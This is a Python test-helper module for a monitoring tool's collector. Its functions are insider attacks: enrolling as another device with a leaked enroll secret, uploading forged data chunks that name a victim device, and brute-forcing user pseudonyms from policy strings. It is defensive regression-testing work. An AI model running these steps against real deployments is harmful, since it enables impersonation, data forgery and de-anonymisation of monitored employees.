"""What an employee can try with what every workstation holds: the machine policy.

Each function is an attack as a colleague at the keyboard would run it, with
the enroll secret (and, where the policy has one, the org key) taken from the
world-readable machine policy. They are written against the wire protocol as
documented (docs/collector.md, docs/security.md), in the forms both the first
protocol (``{"device": D}``) and the key-based one accept, so that the tests
that use them failed on the collector as it was and pass on the fixed one.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import tomllib
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.collector.helpers import chunk_header


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def enroll_as(url: str, secret: str, device: str) -> list[str]:
    """Every token the collector hands out to someone claiming ``device`` with the secret.

    Tries the first protocol's body, then the key-based enrollment with a
    fresh key of the attacker's that names ``device``, then a token request
    for ``device`` signed by that key.
    """
    tokens: list[str] = []
    auth = {"Authorization": f"Bearer {secret}"}
    resp = httpx.post(f"{url}/v1/enroll", json={"device": device}, headers=auth, timeout=10)
    if resp.status_code in (200, 201) and "token" in resp.json():
        tokens.append(str(resp.json()["token"]))
    key = Ed25519PrivateKey.generate()
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    challenge = httpx.post(f"{url}/v1/auth/challenge", json={"device": device}, timeout=10)
    nonce = ""
    if challenge.status_code == 200:
        nonce = str(challenge.json().get("challenge", ""))
    for purpose in ("enroll", "token"):
        signature = key.sign(f"deskcorder-auth-v1\n{purpose}\n{device}\n{nonce}\n".encode())
        body: dict[str, Any] = {
            "device": device,
            "public_key": _b64(public),
            "challenge": nonce,
            "signature": _b64(signature),
            "claims": {"mode": "pseudonymous", "login": "mallory", "machine_id": "x" * 32},
        }
        path = "/v1/enroll" if purpose == "enroll" else "/v1/auth/token"
        got = httpx.post(url + path, json=body, headers=auth, timeout=10)
        if got.status_code in (200, 201) and "token" in got.json():
            tokens.append(str(got.json()["token"]))
    return tokens


def forged_chunk(folder: Path, session: str, seq: int, device: str) -> tuple[bytes, str]:
    """A valid, complete chunk whose header names ``device`` (the victim's)."""
    from deskcorder.storage.chunk import ChunkWriter

    folder.mkdir(parents=True, exist_ok=True)
    header = chunk_header(session, seq, device)
    writer = ChunkWriter(folder, session, seq, header, level=3)
    writer.write_many([{"k": "kd", "t": i, "forged": True} for i in range(5)])
    manifest = writer.seal()
    return (folder / f"{seq:06d}.jsonl.zst").read_bytes(), manifest.sha256


def put_chunk(url: str, token: str, session: str, seq: int, data: bytes) -> int:
    resp = httpx.put(
        f"{url}/v1/sessions/{session}/chunks/{seq}",
        content=data,
        headers={
            "Authorization": f"Bearer {token}",
            "X-Deskcorder-SHA256": hashlib.sha256(data).hexdigest(),
        },
        timeout=10,
    )
    return resp.status_code


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def recompute_user_pseudonym(policy_text: str, machine_id: str, login: str) -> set[str]:
    """Every user pseudonym a colleague can compute from the policy, a login and a machine id.

    Tries every string of the policy as the key of the pseudonym HMAC as
    docs/privacy.md described it: ``HMAC-SHA256(key, "user:<machine-id>:<login>")``.
    """
    out: set[str] = set()
    for key in _strings(tomllib.loads(policy_text)):
        mac = hmac.new(key.encode(), f"user:{machine_id}:{login}".encode(), hashlib.sha256)
        out.add(f"u-{mac.hexdigest()[:32]}")
    return out
